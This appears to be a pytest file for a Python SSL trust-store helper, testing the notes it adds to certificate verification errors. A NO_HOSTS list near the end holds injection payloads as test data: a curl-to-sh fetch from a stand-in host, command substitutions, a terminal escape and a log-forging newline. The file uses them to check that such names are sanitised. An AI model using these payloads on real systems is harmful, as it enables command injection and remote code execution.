"""A refusal on a context with default trust says what to do about it (Python 3.11 and newer)."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
from harness import environment, openssl_store, run, run_code

pytestmark = openssl_store  # in OpenSSL's words; those of Windows and macOS are in test_native_clients.py

REFUSED = """
import json, ssl, sys, {imports}
{setup}
try:
    {statement}
except ssl.SSLCertVerificationError as error:
    print(json.dumps([error.args, type(error).__name__, error.verify_code, error.verify_message,
                      getattr(error, "__notes__", [])]))
"""

needs_notes = pytest.mark.skipif(sys.version_info < (3, 11), reason="exceptions have no notes before Python 3.11")

SOCKET = "context.wrap_socket(socket.create_connection(('127.0.0.1', {port})), server_hostname='localhost')"
ASYNCIO = "asyncio.run(asyncio.open_connection('localhost', {port}, ssl=context))"


def refused(
    url: str, statement: str, setup: str = "context = ssl.create_default_context()", **variables: object
) -> list:
    code = REFUSED.format(
        imports="socket, asyncio", setup=setup, statement=statement.format(port=url.split(":")[2][:-1])
    )
    return run_code(code, env=environment(**{name: str(value) for name, value in variables.items()}))


@needs_notes
@pytest.mark.parametrize("statement", [SOCKET, ASYNCIO])
def test_the_note(urls: dict[str, str], store: Path, statement: str) -> None:
    *_, code, _, notes = refused(urls["unknown"], statement, SSL_CERT_DIR=store)
    assert code == 20
    (note,) = notes
    assert str(store) in note
    assert "unknown of the tests" in note
    assert "python -m truststore_inject check localhost" in note


@needs_notes
@pytest.mark.parametrize(("case", "words"), [("wrong_host", "not for 'localhost'"), ("expired", "has expired")])
def test_the_note_names_the_reason(urls: dict[str, str], store: Path, case: str, words: str) -> None:
    (note,) = refused(urls[case], SOCKET, SSL_CERT_DIR=store)[-1]
    assert words in note


@pytest.mark.parametrize("statement", [SOCKET, ASYNCIO])
@pytest.mark.parametrize("case", ["unknown", "wrong_host", "expired"])
def test_the_exception_is_stock(urls: dict[str, str], store: Path, statement: str, case: str) -> None:
    injected = refused(urls[case], statement, SSL_CERT_DIR=store)
    stock = refused(urls[case], statement, SSL_CERT_DIR=store, TRUSTSTORE_INJECT="0")
    assert injected[:4] == stock[:4]
    assert stock[4] == []


def test_a_pinned_context_gets_no_note(urls: dict[str, str], store: Path, ca_file) -> None:  # type: ignore[no-untyped-def]
    setup = f"context = ssl.create_default_context(cafile={str(ca_file('private'))!r})"
    assert refused(urls["unknown"], SOCKET, setup, SSL_CERT_DIR=store)[-1] == []


@pytest.mark.skipif(sys.version_info >= (3, 11), reason="before Python 3.11 only")
def test_without_notes_nothing_is_replaced(store: Path) -> None:
    code = """
import json, ssl
print(json.dumps([hasattr(cls.do_handshake, "__wrapped__") for cls in (ssl.SSLSocket, ssl.SSLObject)]))
"""
    assert run_code(code, env=environment(SSL_CERT_DIR=store)) == [False, False]


def test_extract_puts_the_handshakes_back(store: Path) -> None:
    code = """
import json, os, ssl, truststore_inject
before = [vars(cls)["do_handshake"] for cls in (ssl.SSLSocket, ssl.SSLObject)]
del os.environ["TRUSTSTORE_INJECT"]
truststore_inject.inject()
during = [vars(cls)["do_handshake"] for cls in (ssl.SSLSocket, ssl.SSLObject)]
truststore_inject.extract()
after = [vars(cls)["do_handshake"] for cls in (ssl.SSLSocket, ssl.SSLObject)]
print(json.dumps([before == during, before == after]))
"""
    env = environment(SSL_CERT_DIR=store, TRUSTSTORE_INJECT="0")
    assert run_code(code, env=env) == [sys.version_info < (3, 11), True]


@needs_notes
@pytest.mark.parametrize(
    "program",
    [
        "import requests; requests.get({url!r})",
        "import urllib3; urllib3.PoolManager(retries=False).request('GET', {url!r})",
        "import httpx; httpx.get({url!r})",
        """
import aiohttp, asyncio
async def main():
    async with aiohttp.ClientSession() as session:
        await session.get({url!r})
asyncio.run(main())
""",
    ],
    ids=["requests", "urllib3", "httpx", "aiohttp"],
)
def test_the_traceback_shows_it(urls: dict[str, str], store: Path, program: str) -> None:
    import certifi

    # httpx prefers SSL_CERT_FILE to certifi's bundle, and fails if it does not exist
    env = environment(SSL_CERT_DIR=store, SSL_CERT_FILE=certifi.where())
    result = run("-c", program.format(url=urls["unknown"]), env=env)
    assert result.returncode == 1
    assert "\ntruststore-inject: the system store (" in result.stderr
    assert "python -m truststore_inject check localhost" in result.stderr


def test_contexts_are_remembered_weakly(store: Path) -> None:
    code = """
import gc, json, ssl
from truststore_inject import stores
for _ in range(3):
    context = ssl.create_default_context()
    context.set_default_verify_paths()
gc.collect(), gc.collect()  # PyPy does not count references
counts = [len(stores._loaded), stores.loaded(context), stores.loaded(ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT))]
del context; gc.collect(), gc.collect()
print(json.dumps([*counts, len(stores._loaded)]))
"""
    assert run_code(code, env=environment(SSL_CERT_DIR=store)) == [1, True, False, 0]


# A name that a link puts there: what a shell would run, what a terminal obeys, a line of a log, an option.
NO_HOSTS = [
    "a.example;curl${IFS}evil.example|sh",
    "a\x1b]0;PWN\x07b.example",
    "a\nINFO login ok",
    "-rf",
    "$(id)",
    "`id`",
]


@needs_notes
@pytest.mark.parametrize("case", ["unknown", "wrong_host"])
def test_a_name_that_no_host_can_have_is_left_out(urls: dict[str, str], store: Path, case: str) -> None:
    for host in NO_HOSTS:
        statement = SOCKET.replace("'localhost'", repr(host).replace("{", "{{").replace("}", "}}"))
        (note,) = refused(urls[case], statement, SSL_CERT_DIR=store)[-1]
        assert all(line.isprintable() and not line.startswith("INFO") for line in note.split("\n")), note
        assert host not in note
        assert "check HOST:" in note


@needs_notes
def test_the_command_in_a_note_is_one_for_an_address_too(urls: dict[str, str], store: Path) -> None:
    statement = SOCKET.replace("'localhost'", "'2001:db8::1'")
    (note,) = refused(urls["unknown"], statement, SSL_CERT_DIR=store)[-1]
    assert note.endswith(f"check '[2001:db8::1]:{urls['unknown'].split(':')[2][:-1]}'")


@needs_notes
def test_a_variable_in_a_note_is_printable(urls: dict[str, str], store: Path) -> None:
    for value in ("/x\x1b[2J\nINFO login ok", "/x\udcff"):
        (note,) = refused(urls["unknown"], SOCKET, SSL_CERT_DIR=store, TRUSTSTORE_INJECT_EXTRA_CA_CERTS=value)[-1]
        assert all(line.isprintable() and not line.startswith("INFO") for line in note.split("\n")), note
